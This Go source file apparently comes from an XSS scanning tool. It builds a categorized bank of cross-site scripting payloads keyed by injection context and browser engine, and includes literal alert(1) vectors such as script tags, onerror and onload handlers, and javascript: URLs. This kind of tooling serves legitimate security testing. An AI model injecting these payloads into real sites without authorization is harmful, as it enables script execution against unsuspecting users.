package payloads

import (
	"encoding/json"
	"fmt"
	"os"
)

// Compatibility is the set of engines a category is known to work on.
type Compatibility struct {
	Chromium bool `json:"chromium"`
	Firefox  bool `json:"firefox"`
	Webkit   bool `json:"webkit"`
}

// Supports reports whether the set includes the given engine id.
func (c Compatibility) Supports(browser string) bool {
	switch browser {
	case "chromium":
		return c.Chromium
	case "firefox":
		return c.Firefox
	case "webkit":
		return c.Webkit
	}
	return false
}

// Exclusive reports whether exactly one engine is in the set.
func (c Compatibility) Exclusive() bool {
	n := 0
	for _, b := range []bool{c.Chromium, c.Firefox, c.Webkit} {
		if b {
			n++
		}
	}
	return n == 1
}

// Category is a named, described payload group with engine compatibility.
type Category struct {
	Category      string        `json:"category"`
	Description   string        `json:"description"`
	Context       Context       `json:"context"`
	AttributeKind AttributeKind `json:"attributeKind,omitempty"`
	Compatibility Compatibility `json:"browserCompatibility"`
	Payloads      []string      `json:"payloads"`
}

var allEngines = Compatibility{Chromium: true, Firefox: true, Webkit: true}

// DefaultBank is the built-in categorized corpus covering HTML, each
// attribute kind, JS, URL and CSS contexts.
func DefaultBank() []Category {
	return []Category{
		{
			Category:      "html-basic",
			Description:   "Tag injection into HTML body content",
			Context:       ContextHTML,
			Compatibility: allEngines,
			Payloads:      Generate(ContextHTML, GenerateOptions{}),
		},
		{
			Category:      "attribute-unquoted",
			Description:   "Breakout from unquoted attribute values",
			Context:       ContextAttribute,
			AttributeKind: AttrUnquoted,
			Compatibility: allEngines,
			Payloads:      Generate(ContextAttribute, GenerateOptions{AttributeKind: AttrUnquoted}),
		},
		{
			Category:      "attribute-single-quoted",
			Description:   "Breakout from single-quoted attribute values",
			Context:       ContextAttribute,
			AttributeKind: AttrSingleQuoted,
			Compatibility: allEngines,
			Payloads:      Generate(ContextAttribute, GenerateOptions{AttributeKind: AttrSingleQuoted}),
		},
		{
			Category:      "attribute-double-quoted",
			Description:   "Breakout from double-quoted attribute values",
			Context:       ContextAttribute,
			AttributeKind: AttrDoubleQuoted,
			Compatibility: allEngines,
			Payloads:      Generate(ContextAttribute, GenerateOptions{AttributeKind: AttrDoubleQuoted}),
		},
		{
			Category:      "attribute-event-handler",
			Description:   "Injection directly into event handler attributes",
			Context:       ContextAttribute,
			AttributeKind: AttrEventHandler,
			Compatibility: allEngines,
			Payloads:      Generate(ContextAttribute, GenerateOptions{AttributeKind: AttrEventHandler}),
		},
		{
			Category:      "javascript",
			Description:   "String breakout inside inline script blocks",
			Context:       ContextJS,
			Compatibility: allEngines,
			Payloads:      Generate(ContextJS, GenerateOptions{}),
		},
		{
			Category:      "url",
			Description:   "javascript: and data: URL schemes",
			Context:       ContextURL,
			Compatibility: allEngines,
			Payloads:      Generate(ContextURL, GenerateOptions{}),
		},
		{
			Category:      "css",
			Description:   "Style block breakout and CSS expressions",
			Context:       ContextCSS,
			Compatibility: Compatibility{Chromium: true, Firefox: true, Webkit: true},
			Payloads:      Generate(ContextCSS, GenerateOptions{}),
		},
		{
			Category:      "webkit-quirks",
			Description:   "Vectors relying on WebKit parsing quirks",
			Context:       ContextHTML,
			Compatibility: Compatibility{Webkit: true},
			Payloads: []string{
				`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
			},
		},
		{
			Category:      "firefox-quirks",
			Description:   "Vectors relying on Gecko event timing",
			Context:       ContextHTML,
			Compatibility: Compatibility{Firefox: true},
			Payloads: []string{
				`<marquee onstart=alert(1)>`,
			},
		},
	}
}

// DefaultFlat is the small fallback set used when nothing else applies.
func DefaultFlat() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)>`,
		`"><script>alert(1)</script>`,
		`javascript:alert(1)`,
	}
}

// WriteCategorizedFile emits the categorized bank as ordered JSON.
func WriteCategorizedFile(path string, bank []Category) error {
	data, err := json.MarshalIndent(bank, "", "  ")
	if err != nil {
		return fmt.Errorf("failed to marshal payload bank: %w", err)
	}
	return os.WriteFile(path, data, 0644)
}

// LoadCategorizedFile reads a categorized bank back. Categorized forms
// are always arrays of category records.
func LoadCategorizedFile(path string) ([]Category, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("failed to read payload bank: %w", err)
	}
	var bank []Category
	if err := json.Unmarshal(data, &bank); err != nil {
		return nil, fmt.Errorf("malformed payload bank: %w", err)
	}
	return bank, nil
}

// FlattenCompatible returns the payloads of every category compatible
// with the given engine, in bank order.
func FlattenCompatible(bank []Category, browser string) []string {
	var out []string
	for _, cat := range bank {
		if cat.Compatibility.Supports(browser) {
			out = append(out, cat.Payloads...)
		}
	}
	return out
}
